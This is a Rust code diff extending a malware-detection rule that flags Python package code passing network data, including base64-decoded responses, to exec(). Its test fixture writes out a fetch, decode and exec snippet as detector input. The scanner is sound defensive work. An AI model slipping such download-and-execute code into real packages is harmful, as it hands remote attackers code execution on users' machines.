@@ -67,7 +67,7 @@ impl Rule for DownloadExecute {
                             .calls
                             .iter()
                             .filter(same)
-                            .find(|c| vocab::is_exec(&c.name) && c.arg_refs.iter().any(|r| vocab::is_network(r)));
+                            .find(|c| vocab::is_exec(&c.name) && fed_by_network(code, c));
                         let launch = code.calls.iter().filter(same).find(|c| {
                             vocab::is_shell(&c.name)
                                 || matches!(
@@ -135,6 +135,28 @@ impl Rule for DownloadExecute {
             out.push(unit.finding(Self::META.id, severity, run.line, message));
         }
     }
+}
+
+/// A reference to data from the network: `requests.get`, or the result of a
+/// send (`requests.get().json().get()`).
+fn network_ref(r: &str) -> bool {
+    vocab::is_network(r) || (r.contains("()") && r.split("()").next().is_some_and(vocab::is_network))
+}
+
+/// `exec(x)` where `x` is network data, directly or through one decoder call
+/// of the same function (`exec(b64decode(requests.get(u).json()["m"]))`).
+fn fed_by_network(code: &crate::inspect::python::PyFile, exec: &Call) -> bool {
+    exec.arg_refs.iter().any(|r| {
+        if network_ref(r) {
+            return true;
+        }
+        let Some(head) = r.split("()").next().filter(|_| r.contains("()")) else {
+            return false;
+        };
+        code.calls
+            .iter()
+            .any(|d| d.scope == exec.scope && d.name == head && d.arg_refs.iter().any(|x| network_ref(x)))
+    })
 }
 
 /// `x.exe`, `…/setup.bat?dl=1`: the name of a Windows program or script.
@@ -208,6 +230,13 @@ mod tests {
             )],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
+    }
+
+    #[test]
+    fn fires_on_exec_of_a_decoded_response() {
+        let src = "import requests, base64\ndef run():\n    res = requests.get(URL)\n    msg = res.json().get('m')\n    code = base64.b64decode(msg).decode()\n    exec(code)\n";
+        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/core.py", src)]);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
     }
 
     #[test]
